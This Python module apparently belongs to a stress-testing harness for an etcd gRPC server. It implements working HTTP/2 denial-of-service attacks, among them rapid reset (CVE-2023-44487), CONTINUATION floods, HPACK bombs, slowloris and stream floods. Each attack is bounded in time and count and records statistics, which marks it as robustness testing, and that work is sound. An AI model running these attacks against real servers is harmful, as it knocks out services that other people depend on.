"""The attacks: each one client's misbehaviour against a member's client port, bounded in time and count.

An attack is `fn(host, port, deadline, p, stats)`: it runs until `deadline` (time.monotonic()),
reconnecting whenever the server closes its connection (a real attacker comes back), and counts
what it did in `stats`. `p` is the size profile ("short" or "long" numbers, see SIZES). Each
attack runs in its own process (runner.py), so its CPU use and threads stay out of the probe's way.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass

from . import h2raw as h

Stats = dict[str, int]


@dataclass(frozen=True)
class Attack:
    name: str
    title: str  # the table's wording
    fn: Callable[[str, int, float, dict, Stats], None]
    seed_big: bool = False  # needs the large keys of the slow-reader attack


# Bounds per profile: how many streams/connections an attack may make at most.
SIZES = {
    "short": {
        "big_streams": 64,
        "flood_streams": 20_000,
        "slowloris": 200,
        "idle": 500,
        "slow_ranges": 16,
        "big_keys": 8,
        "hpack_value": 4000,
    },
    "long": {
        "big_streams": 256,
        "flood_streams": 200_000,
        "slowloris": 500,
        "idle": 1000,
        "slow_ranges": 64,
        "big_keys": 32,
        "hpack_value": 4000,
    },
}
BIG_KEY_PREFIX = b"abuse-big/"
BIG_VALUE = 1 << 20


def _left(deadline: float) -> float:
    return deadline - time.monotonic()


def _sessions(
    host: str, port: int, deadline: float, stats: Stats, body: Callable[[h.Conn], None], **conn_opts: object
) -> None:
    """Run `body` on fresh connections until the deadline; a closed connection is reopened."""
    while _left(deadline) > 0:
        try:
            c = h.Conn(host, port, **conn_opts)  # type: ignore[arg-type]  # options passed through to Conn
        except OSError:
            stats["connect_errors"] = stats.get("connect_errors", 0) + 1
            time.sleep(0.05)
            continue
        stats["connections"] = stats.get("connections", 0) + 1
        try:
            body(c)
        except OSError:
            stats["send_errors"] = stats.get("send_errors", 0) + 1
        finally:
            if c.goaway is not None:
                stats[f"goaway_{c.goaway[0]}"] = stats.get(f"goaway_{c.goaway[0]}", 0) + 1
            stats["rst_received"] = stats.get("rst_received", 0) + c.rst_received
            c.close()
        if _left(deadline) > 0 and not c.goaway:
            time.sleep(0.01)


def _sendall_until(c: h.Conn, data: bytes, deadline: float) -> bool:
    """sendall, giving up at the deadline (a server that stopped reading blocks us)."""
    left = _left(deadline)
    if left <= 0:
        return False
    c.sock.settimeout(max(0.05, left))
    try:
        c.sock.sendall(data)
    except TimeoutError:
        return False
    return True


# -- the attacks -----------------------------------------------------------------------------------


def rapid_reset(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """HEADERS (a full Range call) then RST_STREAM CANCEL, as fast as possible (CVE-2023-44487)."""

    def body(c: h.Conn) -> None:
        c.start_reader()
        while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
            batch = []
            for _ in range(100):
                sid, hdr = c.open_stream()
                batch.append(hdr)
                batch.append(h.rst_stream(sid))
            if not _sendall_until(c, b"".join(batch), deadline):
                return
            stats["streams"] = stats.get("streams", 0) + 100

    _sessions(host, port, deadline, stats, body)


def continuation_flood(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames without end."""
    empty = h.frame(h.CONTINUATION, 0, 1) * 1000

    def body(c: h.Conn) -> None:
        c.start_reader()
        block = c.headers_block()
        sid = c.new_stream()
        c.send(h.frame(h.HEADERS, 0, sid, block[:3]))
        while _left(deadline) > 0 and not c.closed.is_set():
            if not _sendall_until(c, empty, deadline):
                return
            stats["frames"] = stats.get("frames", 0) + 1000

    _sessions(host, port, deadline, stats, body)


def huffman_literals(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """Header blocks of ~60 KB, one Huffman-coded literal of 96,000 5-bit symbols each (decodes to
    96 KB: over a 64 KiB header-list limit only once decoded), on stream after stream."""
    literal = h.huffman_literal(b"x-huffman", b"0" * 96_000)

    def body(c: h.Conn) -> None:
        c.start_reader()
        while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
            sid = c.new_stream()
            block = c.headers_block() + literal
            chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
            out = [
                h.frame(h.HEADERS, h.END_STREAM | (h.END_HEADERS if len(chunks) == 1 else 0), sid, chunks[0])
            ]
            for i, chunk in enumerate(chunks[1:], 2):
                out.append(h.frame(h.CONTINUATION, h.END_HEADERS if i == len(chunks) else 0, sid, chunk))
            if not _sendall_until(c, b"".join(out), deadline):
                return
            stats["blocks"] = stats.get("blocks", 0) + 1

    _sessions(host, port, deadline, stats, body)


def hpack_bomb(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """One ~4 KB header put in the dynamic table, then blocks that reference it ~16,000 times
    (16 KB on the wire, ~64 MB decoded), stream after stream."""
    plain = b"".join(
        h.plain_literal(k.encode(), v.encode())
        for k, v in h.request_headers("/etcdserverpb.KV/Range", f"{host}:{port}")
    )
    insert = h.plain_literal(b"x-bomb", b"A" * (p["hpack_value"] - 6 - 32), index=True)
    bomb = h.indexed(62) * (16_384 - len(plain) - 16)

    def body(c: h.Conn) -> None:
        c.start_reader()
        sid = c.new_stream()
        c.send(h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, plain + insert))
        while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
            sid = c.new_stream()
            if not _sendall_until(
                c, h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, plain + bomb), deadline
            ):
                return
            stats["blocks"] = stats.get("blocks", 0) + 1

    _sessions(host, port, deadline, stats, body)


def settings_churn(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """500 calls left open (HEADERS of a unary call, no body), then SETTINGS frames each with a new
    SETTINGS_INITIAL_WINDOW_SIZE, as fast as possible (reading the ACKs)."""

    def body(c: h.Conn) -> None:
        c.start_reader()
        opened = b"".join(c.open_stream()[1] for _ in range(500))
        if not _sendall_until(c, opened, deadline):
            return
        value = 65_535
        while _left(deadline) > 0 and not c.closed.is_set():
            batch = []
            for _ in range(200):
                value = 65_535 + (value + 7919) % 1_000_000
                batch.append(h.settings({h.S_INITIAL_WINDOW_SIZE: value}))
            if not _sendall_until(c, b"".join(batch), deadline):
                return
            stats["settings"] = stats.get("settings", 0) + 200

    _sessions(host, port, deadline, stats, body)


def _flood_noread(frame: bytes, key: str) -> Callable[[str, int, float, dict, Stats], None]:
    batch = frame * 1000

    def attack(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
        def body(c: h.Conn) -> None:
            while _left(deadline) > 0:
                if not _sendall_until(c, batch, deadline):
                    return
                stats[key] = stats.get(key, 0) + 1000

        _sessions(host, port, deadline, stats, body, rcvbuf=4096)

    return attack


ping_flood_noread = _flood_noread(h.ping(b"abuse!!!"), "pings")
ping_flood_noread.__doc__ = "PING frames as fast as possible; the answers are never read."
settings_flood_noread = _flood_noread(h.settings(), "settings")
settings_flood_noread.__doc__ = "Empty SETTINGS frames as fast as possible; the ACKs are never read."


def big_unary_bodies(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """Stream after stream of KV.Put announcing a 1,500,000-byte message (under etcd's limit) and
    sending 1 MiB of it, never finishing; DATA only as the server's windows allow."""
    chunk = h.grpc_prefix(1_500_000) + b"\0" * ((1 << 20) - 5)

    def body(c: h.Conn) -> None:
        c.start_reader()
        while _left(deadline) > 0 and not c.closed.is_set() and stats.get("streams", 0) < p["big_streams"]:
            sid, hdr = c.open_stream("/etcdserverpb.KV/Put")
            if not _sendall_until(c, hdr, deadline):
                return
            stats["streams"] = stats.get("streams", 0) + 1
            sent = c.send_data_respecting_windows(sid, chunk, min(deadline, time.monotonic() + 0.5))
            stats["bytes"] = stats.get("bytes", 0) + sent
        while _left(deadline) > 0 and not c.closed.is_set():  # hold them
            time.sleep(0.05)

    _sessions(host, port, deadline, stats, body)


def slow_reader(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """Largest windows granted, then Range calls over the big keys (p["big_keys"] MiB each), one
    every 50 ms up to p["slow_ranges"], while reading the socket at ~160 KB/s."""
    from etcdstore.proto.etcdserverpb import rpc_pb2  # the request's encoding only

    req = h.grpc_message(
        rpc_pb2.RangeRequest(
            key=BIG_KEY_PREFIX, range_end=BIG_KEY_PREFIX[:-1] + b"0", serializable=True
        ).SerializeToString()
    )

    def body(c: h.Conn) -> None:
        c.send(h.window_update(0, h.MAX_WINDOW - h.DEFAULT_WINDOW))
        c.start_reader(delay_per_read=0.1, chunk=16_384)
        while _left(deadline) > 0 and not c.closed.is_set():
            if stats.get("ranges", 0) < p["slow_ranges"]:
                sid, hdr = c.open_stream()
                if not _sendall_until(c, hdr + h.frame(h.DATA, h.END_STREAM, sid, req), deadline):
                    return
                stats["ranges"] = stats.get("ranges", 0) + 1
            time.sleep(0.05)
        stats["bytes_read"] = stats.get("bytes_read", 0) + c.bytes_read

    _sessions(
        host,
        port,
        deadline,
        stats,
        body,
        rcvbuf=16_384,
        client_settings={h.S_INITIAL_WINDOW_SIZE: h.MAX_WINDOW},
    )


def stream_flood(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """Streams opened and never finished (unary calls without a body), far more than a server
    should allow at once (p["flood_streams"] in all)."""

    def body(c: h.Conn) -> None:
        c.start_reader()
        while _left(deadline) > 0 and not c.closed.is_set() and stats.get("streams", 0) < p["flood_streams"]:
            batch = b"".join(c.open_stream()[1] for _ in range(100))
            if not _sendall_until(c, batch, deadline):
                return
            stats["streams"] = stats.get("streams", 0) + 100
        while _left(deadline) > 0 and not c.closed.is_set():  # hold them
            time.sleep(0.05)

    _sessions(host, port, deadline, stats, body)


def _raise_nofile(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n + 100:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 100), hard))


def _hold_connections(
    host: str,
    port: int,
    deadline: float,
    n: int,
    stats: Stats,
    first: Callable[[socket.socket, int], None],
    step: Callable[[socket.socket, int, int], None] | None,
    interval: float,
) -> None:
    _raise_nofile(n)
    socks: list[socket.socket] = []
    try:
        while len(socks) < n and _left(deadline) > 0:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(1.0)
            try:
                s.connect((host, port))
                first(s, len(socks))
            except OSError:
                stats["connect_errors"] = stats.get("connect_errors", 0) + 1
                s.close()
                time.sleep(0.01)
                continue
            socks.append(s)
            stats["connections"] = len(socks)
        tick = 0
        while _left(deadline) > 0:
            time.sleep(min(interval, max(0.0, _left(deadline))))
            tick += 1
            if step is not None:
                for i, s in enumerate(socks):
                    with contextlib.suppress(OSError):
                        step(s, i, tick)
        closed = 0
        for s in socks:  # how many did the server drop meanwhile? (read what it sent, up to EOF)
            s.setblocking(False)
            try:
                while s.recv(1 << 16):
                    pass
                closed += 1  # EOF
            except BlockingIOError:
                pass  # still open
            except OSError:
                closed += 1  # reset
        stats["closed_by_server"] = closed
    finally:
        for s in socks:
            s.close()


def slowloris_preface(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """p["slowloris"] connections: half send the preface (then a SETTINGS frame) a byte every
    0.5 s, never finishing; the other half send nothing at all."""
    script = h.PREFACE + h.frame(h.SETTINGS, 0, 0, b"\0" * 6)

    def first(s: socket.socket, i: int) -> None:
        if i % 2 == 0:
            s.sendall(script[:1])

    def dribble(s: socket.socket, i: int, tick: int) -> None:
        if i % 2 == 0 and tick < len(script):
            s.send(script[tick : tick + 1])

    _hold_connections(host, port, deadline, p["slowloris"], stats, first, dribble, 0.5)


def idle_connections(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """p["idle"] connections that send the preface and SETTINGS, then nothing (never read)."""

    def first(s: socket.socket, i: int) -> None:
        s.sendall(h.PREFACE + h.settings())

    _hold_connections(host, port, deadline, p["idle"], stats, first, None, 0.5)


def oversized_prefix(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
    """KV.Put calls whose gRPC length prefix says 4 GiB - 1, each followed by as much DATA as the
    windows allow for 0.3 s; stream after stream."""
    junk = h.grpc_prefix(0xFFFFFFFF) + b"\0" * ((1 << 20) - 5)

    def body(c: h.Conn) -> None:
        c.start_reader()
        while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
            sid, hdr = c.open_stream("/etcdserverpb.KV/Put")
            if not _sendall_until(c, hdr, deadline):
                return
            stats["streams"] = stats.get("streams", 0) + 1
            stats["bytes"] = stats.get("bytes", 0) + c.send_data_respecting_windows(
                sid, junk, min(deadline, time.monotonic() + 0.3)
            )

    _sessions(host, port, deadline, stats, body)


ATTACKS = [
    Attack("rapid_reset", "rapid reset (HEADERS then RST_STREAM)", rapid_reset),
    Attack(
        "continuation_flood", "HEADERS without END_HEADERS, endless empty CONTINUATION", continuation_flood
    ),
    Attack("huffman_literals", "huge Huffman-coded header literals", huffman_literals),
    Attack("hpack_bomb", "one large indexed header repeated (HPACK bomb)", hpack_bomb),
    Attack(
        "settings_churn", "SETTINGS churn (new initial window each frame, 500 open streams)", settings_churn
    ),
    Attack("ping_flood_noread", "PING flood without reading", ping_flood_noread),
    Attack("settings_flood_noread", "SETTINGS flood without reading", settings_flood_noread),
    Attack("big_unary_bodies", "streams each sending 1 MiB of an unfinished unary request", big_unary_bodies),
    Attack("slow_reader", "slow reader of large ranges", slow_reader, seed_big=True),
    Attack("stream_flood", "stream flood (streams opened, never finished)", stream_flood),
    Attack("slowloris_preface", "slowloris preface (a byte at a time / nothing)", slowloris_preface),
    Attack("idle_connections", "many idle connections", idle_connections),
    Attack("oversized_prefix", "oversized gRPC length prefix (4 GiB - 1)", oversized_prefix),
]
BY_NAME = {a.name: a for a in ATTACKS}


def run_in_child(name: str, host: str, port: int, duration: float, profile: str, out: object) -> None:
    """Entry point of the attack process: run one attack, put its stats on the queue `out`."""
    stats: Stats = {}
    deadline = time.monotonic() + duration
    try:
        BY_NAME[name].fn(host, port, deadline, SIZES[profile], stats)
    except Exception as e:  # noqa: BLE001 - the attacker's own failure is reported, not raised
        stats["attacker_error"] = 1
        # Stats holds counters and this text
        stats["attacker_error_text"] = repr(e)[:200]  # type: ignore[assignment]
    out.put(stats)  # type: ignore[attr-defined]  # out is a multiprocessing queue
